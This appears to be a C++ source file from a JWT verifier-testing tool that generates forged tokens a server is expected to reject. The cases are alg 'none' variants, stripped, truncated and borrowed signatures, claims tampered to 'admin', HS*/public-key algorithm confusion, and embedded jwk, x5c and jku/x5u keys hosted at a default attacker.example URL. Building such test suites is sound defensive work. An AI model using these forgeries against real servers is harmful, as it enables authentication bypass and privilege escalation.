// SPDX-License-Identifier: MIT
#include "negativeset.h"

#include "jsonedit.h"
#include "negativemaker.h"

#include "algorithm.h"
#include "base64url.h"
#include "digest.h"
#include "json.h"
#include "jws.h"
#include "key.h"
#include "keyfit.h"
#include "keyforms.h"
#include "keygen.h"
#include "keyset.h"
#include "token.h"

namespace Forge {

namespace Negative {

QByteArray signingInput(const QByteArray &header, const QByteArray &payload)
{
    return Base64Url::encode(header) + '.' + Base64Url::encode(payload);
}

namespace {

/// A text with the dots removed, for names: "at+jwt" stays, "../" does not appear in names.
QString slug(const QString &text)
{
    QString s;
    for (QChar c : text)
        s += c.isLetterOrNumber() || c == u'-' || c == u'+' ? c : QChar(u'-');
    return s;
}

} // namespace

bool Maker::start(const NegativeSetInput &input)
{
    m_now = input.now;
    const Token token = Token::parse(QByteArrayView(input.token));
    if (token.form() != Token::Form::Jws || !token.isWellFormed()) {
        set.error = ForgeTr::tr("the token is not a well-formed JWS (three parts)");
        return false;
    }
    if (!token.payloadObject().isObject) {
        set.error = ForgeTr::tr("the token's payload is not a JSON object of claims");
        return false;
    }
    const std::optional<Algorithm> alg = Algorithms::fromName(token.alg());
    if (!alg || *alg == Algorithm::None) {
        set.error
                = ForgeTr::tr("the token's alg \"%1\" is not a signing algorithm").arg(token.alg());
        return false;
    }
    m_alg = *alg;
    m_algName = Algorithms::name(m_alg);
    m_header = Json::compact(token.header().decoded).text;
    m_payload = Json::compact(token.payload().decoded).text;
    if (!loadKeys(input))
        return false;
    freshTimes();

    m_claims = input.claims;
    if (m_claims.isEmpty()) {
        m_claims = {{QStringLiteral("sub"), str(QStringLiteral("admin"))},
                    {QStringLiteral("role"), str(QStringLiteral("admin"))},
                    {QStringLiteral("exp"), QByteArray::number(m_now + tenYears)}};
    }
    m_forged = m_payload;
    for (const ClaimEdit &edit : std::as_const(m_claims))
        m_forged = JsonEdit::setCompact(m_forged, edit.name, edit.value);

    m_jku = input.jkuUrl.isEmpty() ? QStringLiteral("https://attacker.example/jwks.json")
                                   : input.jkuUrl;
    if (m_jku.endsWith(u'/'))
        m_jku += QStringLiteral("jwks.json");
    m_x5u = m_jku.left(m_jku.lastIndexOf(u'/') + 1) + QStringLiteral("x5u.pem");

    m_settings.key = m_public.isNull() ? QStringLiteral("secret") : QStringLiteral("public-key");
    m_settings.algorithms = {m_algName};
    const Json::Object claims = Json::readObject(m_payload);
    if (const Json::Member *iss = claims.find(u"iss"); iss && iss->kind == Json::ValueKind::String)
        m_settings.issuer = iss->string();
    if (const Json::Member *aud = claims.find(u"aud")) {
        if (aud->kind == Json::ValueKind::String) {
            m_settings.audience = aud->string();
        } else if (aud->kind == Json::ValueKind::Array) {
            const QList<Json::Member> items = Json::readArray(aud->raw);
            if (!items.isEmpty() && items.first().kind == Json::ValueKind::String)
                m_settings.audience = items.first().string();
        }
    }
    m_settings.requiredClaims = {QStringLiteral("exp")};
    if (claims.find(u"sub"))
        m_settings.requiredClaims << QStringLiteral("sub");
    m_settings.type = token.typ();
    m_settings.now = m_now;
    return true;
}

bool Maker::loadKeys(const NegativeSetInput &input)
{
    const bool hmac = Algorithms::family(m_alg) == AlgorithmFamily::Hmac;
    if (hmac) {
        QByteArray secret = input.secret;
        if (secret.isEmpty() && !input.keyText.isEmpty()) {
            const KeySet keys = ::loadKeys(input.keyText);
            const KeyChoice choice = chooseKey(keys.keys, m_alg, {});
            secret = choice.key.secretBytes();
        }
        if (secret.isEmpty()) {
            set.error = ForgeTr::tr("an %1 token needs the server's secret").arg(m_algName);
            return false;
        }
        m_signing = Key::fromSecret(secret);
        if (!input.publicKeyText.isEmpty())
            set.skipped << ForgeTr::tr(
                    "the public key is not used: the token is signed with a secret");
        return true;
    }
    if (input.keyText.isEmpty()) {
        set.error = ForgeTr::tr("an %1 token needs the private key to sign the cases a server must "
                                "accept")
                            .arg(m_algName);
        return false;
    }
    const KeySet keys = ::loadKeys(input.keyText);
    if (!keys.ok()) {
        set.error = keys.error.isEmpty() ? ForgeTr::tr("no key in the key text") : keys.error;
        return false;
    }
    const Token token = Token::parse(QByteArrayView(input.token));
    const KeyChoice choice = chooseKey(keys.keys, m_alg, token.kid());
    if (choice.key.isNull() || !choice.key.isPrivate()) {
        set.error = choice.key.isNull()
                ? choice.error
                : ForgeTr::tr(
                        "the key cannot sign: give the private key (the public one is given with "
                        "the public key)");
        return false;
    }
    const KeyFit fit = checkFit(choice.key, m_alg);
    if (fit.verdict == KeyFit::Verdict::Mismatch) {
        set.error = fit.reason;
        return false;
    }
    m_signing = choice.key;
    m_public = m_signing.publicKey();
    if (!input.publicKeyText.isEmpty()) {
        const KeySet given = ::loadKeys(input.publicKeyText);
        const KeyChoice pub = chooseKey(given.keys, m_alg, token.kid());
        if (pub.key.isNull()) {
            set.error = given.error.isEmpty() ? pub.error : given.error;
            return false;
        }
        if (pub.key.publicKey().toPem() != m_public.toPem()) {
            set.error = ForgeTr::tr("the public key is not the public part of the private key");
            return false;
        }
        m_publicText = input.publicKeyText;
    }
    return true;
}

void Maker::freshTimes()
{
    const Json::Object claims = Json::readObject(m_payload);
    const Json::Member *exp = claims.find(u"exp");
    const Json::Member *iat = claims.find(u"iat");
    const Json::Member *nbf = claims.find(u"nbf");
    const auto notAfterNow = [this](const Json::Member *m) {
        return !m || (m->isNumber() && m->number() <= double(m_now));
    };
    const bool valid = exp && exp->isNumber() && double(m_now) < exp->number()
            && exp->number() < 1e11 && notAfterNow(iat) && notAfterNow(nbf);
    if (valid)
        return;
    if (iat)
        m_payload
                = JsonEdit::setCompact(m_payload, QStringLiteral("iat"), QByteArray::number(m_now));
    if (nbf)
        m_payload
                = JsonEdit::setCompact(m_payload, QStringLiteral("nbf"), QByteArray::number(m_now));
    m_payload = JsonEdit::setCompact(m_payload, QStringLiteral("exp"),
                                     QByteArray::number(m_now + freshLifetime));
}

QByteArray Maker::signWith(Algorithm alg, const Key &key, const QByteArray &header,
                           const QByteArray &payload) const
{
    const QByteArray input = signingInput(header, payload);
    const Signature s = sign(alg, key, input);
    return input + '.' + Base64Url::encode(s.bytes);
}

QByteArray Maker::hmacWith(int bits, const QByteArray &keyBytes, const QByteArray &header,
                           const QByteArray &payload) const
{
    const QByteArray input = signingInput(header, payload);
    return input + '.' + Base64Url::encode(Digest::hmac(bits, keyBytes, input));
}

void Maker::add(const QString &name, const QString &kind, const QByteArray &token,
                Expectation expect, const QString &errorClass, const QString &why,
                const QString &reference, const VerifierSettings *settings)
{
    NegativeCase c;
    c.name = name;
    c.kind = kind;
    c.token = token;
    c.expect = expect;
    c.errorClass = errorClass;
    c.why = why;
    c.reference = reference;
    c.settings = settings ? *settings : m_settings;
    set.cases.append(std::move(c));
}

void Maker::makeAll()
{
    baseline();
    algNone();
    signatures();
    tampered();
    confusion();
    embeddedKeys();
    kidInjection();
    psychic();
    claims();
    structure();
}

void Maker::baseline()
{
    const QByteArray token = signWith(m_alg, m_signing, m_header, m_payload);
    m_goodSignature = token.mid(token.lastIndexOf('.') + 1);
    add(QStringLiteral("baseline"), QStringLiteral("baseline"), token, Expectation::Accept, {},
        ForgeTr::tr("The control: the token as the server issues it, signed with its key and valid "
                    "now. "
                    "If the server refuses this one, its other answers say nothing."),
        QStringLiteral("RFC 7519 §7.2"));
}

void Maker::algNone()
{
    for (const char *spelling : {"none", "None", "NONE", "nOnE"}) {
        const QString alg = QLatin1String(spelling);
        const QByteArray input = signingInput(headerWith(alg), m_forged);
        add(QStringLiteral("alg-none-%1-unsigned").arg(alg), QStringLiteral("alg-none"),
            input + '.', Expectation::Reject, QStringLiteral("unsupported_algorithm"),
            ForgeTr::tr(
                    "alg \"%1\" and no signature, with the forged claims. A verifier that takes "
                    "the "
                    "algorithm from the header and treats \"none\" as one (or matches a deny-list "
                    "case-sensitively) accepts an unsigned token.")
                    .arg(alg),
            QString::fromUtf8(refNone));
        add(QStringLiteral("alg-none-%1-signature-kept").arg(alg), QStringLiteral("alg-none"),
            input + '.' + m_goodSignature, Expectation::Reject,
            QStringLiteral("unsupported_algorithm"),
            ForgeTr::tr(
                    "alg \"%1\" with the original signature left on. A verifier that skips "
                    "verification for \"none\" but only checks that a signature is present accepts "
                    "it.")
                    .arg(alg),
            QString::fromUtf8(refNone));
    }
}

void Maker::signatures()
{
    const QByteArray input = signingInput(m_header, m_forged);
    add(QStringLiteral("signature-empty"), QStringLiteral("signature"), input + '.',
        Expectation::Reject, QStringLiteral("invalid_signature"),
        ForgeTr::tr(
                "The real algorithm with an empty signature. A verifier that compares only as many "
                "bytes as the token gives, or verifies only when a signature is present, accepts "
                "it."),
        QString::fromUtf8(refSignature));

    QByteArray other = JsonEdit::setCompact(m_payload, QStringLiteral("sub"),
                                            str(QStringLiteral("jwtlens-other-token")));
    other = JsonEdit::setCompact(other, QStringLiteral("jti"), str(QStringLiteral("other")));
    const QByteArray otherToken = signWith(m_alg, m_signing, m_header, other);
    add(QStringLiteral("signature-from-other-token"), QStringLiteral("signature"),
        input + '.' + otherToken.mid(otherToken.lastIndexOf('.') + 1), Expectation::Reject,
        QStringLiteral("invalid_signature"),
        ForgeTr::tr(
                "A genuine signature of the server's key, taken from another token. A verifier "
                "that "
                "checks that the signature is one the key made (or caches verdicts by signature) "
                "instead of checking it over this header and payload accepts it."),
        QString::fromUtf8(refSignature));

    qsizetype keep = m_goodSignature.size() / 2;
    if (keep % 4 == 1)
        --keep;
    const QByteArray baselineInput = signingInput(m_header, m_payload);
    add(QStringLiteral("signature-truncated"), QStringLiteral("signature"),
        baselineInput + '.' + m_goodSignature.left(keep), Expectation::Reject,
        QStringLiteral("invalid_signature"),
        ForgeTr::tr(
                "The baseline with its signature cut in half. A verifier that compares a prefix "
                "(strncmp, memcmp with the given length) accepts it; the whole MAC or signature "
                "must match."),
        QString::fromUtf8(refSignature));
}

void Maker::tampered()
{
    for (const ClaimEdit &edit : std::as_const(m_claims)) {
        const QByteArray payload = JsonEdit::setCompact(m_payload, edit.name, edit.value);
        add(QStringLiteral("tampered-%1").arg(slug(edit.name)), QStringLiteral("tampered-payload"),
            signingInput(m_header, payload) + '.' + m_goodSignature, Expectation::Reject,
            QStringLiteral("invalid_signature"),
            ForgeTr::tr("\"%1\" changed to %2 under the old signature. A server that decodes the "
                        "claims "
                        "without verifying them (jwt.decode without verification, jsonwebtoken's "
                        "decode() "
                        "instead of verify()) accepts it.")
                    .arg(edit.name, QString::fromUtf8(edit.value)),
            QStringLiteral("RFC 7519 §7.2; RFC 7515 §5.2"));
    }
}

void Maker::confusion()
{
    if (m_public.isNull()) {
        set.skipped << ForgeTr::tr(
                "algorithm confusion (HS* keyed with the public key): the server "
                "uses a secret, it has no public key");
        return;
    }
    QByteArray pem = m_public.toPem();
    if (!pem.endsWith('\n'))
        pem += '\n';
    QByteArray bare = pem;
    while (bare.endsWith('\n') || bare.endsWith('\r'))
        bare.chop(1);
    QList<std::pair<QString, QByteArray>> forms {
            {QStringLiteral("pem-spki"), pem},
            {QStringLiteral("pem-spki-no-newline"), bare},
    };
    if (m_public.kind() == KeyKind::Rsa)
        forms.append({QStringLiteral("pem-pkcs1"), KeyForms::rsaPublicKeyPkcs1Pem(m_public)});
    forms.append({QStringLiteral("jwk"), m_public.toJwk(false)});
    forms.append({QStringLiteral("der"), KeyForms::publicKeyDer(m_public)});
    if (!m_publicText.isEmpty()) {
        bool known = false;
        for (const auto &form : std::as_const(forms))
            known = known || form.second == m_publicText;
        if (!known)
            forms.append({QStringLiteral("as-given"), m_publicText});
    }
    for (const char *hs : {"HS256", "HS384", "HS512"}) {
        const QString alg = QLatin1String(hs);
        const int bits = Algorithms::hashBits(*Algorithms::fromName(alg));
        for (const auto &[form, bytes] : std::as_const(forms)) {
            if (bytes.isEmpty())
                continue;
            add(QStringLiteral("alg-confusion-%1-%2").arg(alg, form),
                QStringLiteral("alg-confusion"), hmacWith(bits, bytes, headerWith(alg), m_forged),
                Expectation::Reject, foreignClass(alg),
                ForgeTr::tr(
                        "%1 with the server's public key (%2) as the HMAC secret. A verifier that "
                        "takes the algorithm from the token and hands it the key it holds uses a "
                        "public key — which anyone has — as the secret; this HMAC was made with "
                        "it.")
                        .arg(alg, form),
                QString::fromUtf8(refConfusion));
        }
    }
}

void Maker::embeddedKeys()
{
    // The attacker's key: of the server's family when it is asymmetric (so the algorithm is
    // allowed and only the key decides), else RSA as in the published attacks.
    const Algorithm alg = m_public.isNull() ? Algorithm::RS256 : m_alg;
    const QString curve = m_signing.kind() == KeyKind::Ed448 ? QStringLiteral("Ed448") : QString();
    const GeneratedKey attacker = generateKey(alg, 0, curve);
    if (!attacker.ok()) {
        set.skipped << ForgeTr::tr("embedded keys: %1").arg(attacker.error);
        return;
    }
    const QString algName = Algorithms::name(alg);
    const Key &key = attacker.key;
    const QByteArray kid = Base64Url::encode(key.thumbprint());
    QByteArray jwk = JsonEdit::setCompact(key.publicKey().toJwk(false), QStringLiteral("kid"),
                                          str(QString::fromLatin1(kid)));
    const QString cls = foreignClass(algName);
    const QString ref = QStringLiteral("RFC 8725 §3.10; RFC 7515 §4.1.2–4.1.6");

    const QByteArray jwkHeader
            = JsonEdit::setCompact(JsonEdit::setCompact(headerWith(algName), QStringLiteral("kid"),
                                                        str(QString::fromLatin1(kid))),
                                   QStringLiteral("jwk"), jwk);
    add(QStringLiteral("embedded-jwk"), QStringLiteral("embedded-key"),
        signWith(alg, key, jwkHeader, m_forged), Expectation::Reject, cls,
        ForgeTr::tr(
                "Signed with a fresh key that the header carries as \"jwk\". A verifier that "
                "trusts "
                "the key a token brings (node-jose before 0.11.0) verifies it with the attacker's "
                "own key."),
        ref + QStringLiteral("; CVE-2018-0114"));

    QByteArray hostedJwk
            = JsonEdit::setCompact(jwk, QStringLiteral("use"), str(QStringLiteral("sig")));
    hostedJwk = JsonEdit::setCompact(hostedJwk, QStringLiteral("alg"), str(algName));
    set.hosted.append({QStringLiteral("jwks.json"), m_jku, "{\"keys\":[" + hostedJwk + "]}\n"});
    const QByteArray jkuHeader
            = JsonEdit::setCompact(JsonEdit::setCompact(headerWith(algName), QStringLiteral("kid"),
                                                        str(QString::fromLatin1(kid))),
                                   QStringLiteral("jku"), str(m_jku));
    add(QStringLiteral("embedded-jku"), QStringLiteral("embedded-key"),
        signWith(alg, key, jkuHeader, m_forged), Expectation::Reject, cls,
        ForgeTr::tr(
                "\"jku\" points at %1, where the tester hosts jwks.json with the key that signed "
                "it. A verifier that fetches the key set the token names (or checks the URL with a "
                "loose prefix) trusts the attacker's key; a request arriving there is an SSRF.")
                .arg(m_jku),
        ref);

    const QByteArray cert = KeyForms::selfSignedCertificate(key, QStringLiteral("jwtlens attacker"),
                                                            m_now - 3600, 365);
    if (cert.isEmpty()) {
        set.skipped << ForgeTr::tr("x5u and x5c: the certificate could not be made");
        return;
    }
    set.hosted.append({QStringLiteral("x5u.pem"), m_x5u, cert});
    const QByteArray x5uHeader
            = JsonEdit::setCompact(headerWith(algName), QStringLiteral("x5u"), str(m_x5u));
    add(QStringLiteral("embedded-x5u"), QStringLiteral("embedded-key"),
        signWith(alg, key, x5uHeader, m_forged), Expectation::Reject, cls,
        ForgeTr::tr(
                "\"x5u\" points at %1, where the tester hosts a self-signed certificate of the key "
                "that signed it. A verifier that fetches it and does not chain it to a trust "
                "anchor "
                "it chose accepts it.")
                .arg(m_x5u),
        ref);

    // x5c holds standard base64 DER (RFC 7515 §4.1.6): the PEM body without its lines.
    QByteArray der;
    for (const QByteArray &line : cert.split('\n')) {
        if (!line.startsWith("-----"))
            der += line.trimmed();
    }
    const QByteArray x5cHeader
            = JsonEdit::setCompact(headerWith(algName), QStringLiteral("x5c"), "[\"" + der + "\"]");
    add(QStringLiteral("embedded-x5c"), QStringLiteral("embedded-key"),
        signWith(alg, key, x5cHeader, m_forged), Expectation::Reject, cls,
        ForgeTr::tr(
                "\"x5c\" carries a self-signed certificate of the key that signed it. A verifier "
                "that takes the first certificate's key without validating the chain accepts it."),
        ref);
}

} // namespace Negative

NegativeSet makeNegativeSet(const NegativeSetInput &input)
{
    Negative::Maker maker;
    if (maker.start(input)) {
        maker.makeAll();
        maker.judge();
    }
    return std::move(maker.set);
}

QString expectationName(Expectation expect)
{
    return expect == Expectation::Accept ? QStringLiteral("accept") : QStringLiteral("reject");
}

QString lensAnswerName(Expectation answer)
{
    return answer == Expectation::Accept ? QStringLiteral("accepts") : QStringLiteral("rejects");
}

QStringList lensMisses(const NegativeSet &set)
{
    QStringList names;
    for (const NegativeCase &c : set.cases) {
        if (c.lens != c.expect)
            names << c.name;
    }
    return names;
}

std::optional<ClaimEdit> claimEdit(const QString &text)
{
    const qsizetype eq = text.indexOf(u'=');
    if (eq <= 0)
        return std::nullopt;
    const QString value = text.mid(eq + 1);
    const Json::Formatted json = Json::compact(value.toUtf8());
    const bool isJson = !json.error.isError() && !value.trimmed().isEmpty();
    return ClaimEdit {text.left(eq), isJson ? json.text : Json::quote(value)};
}

} // namespace Forge
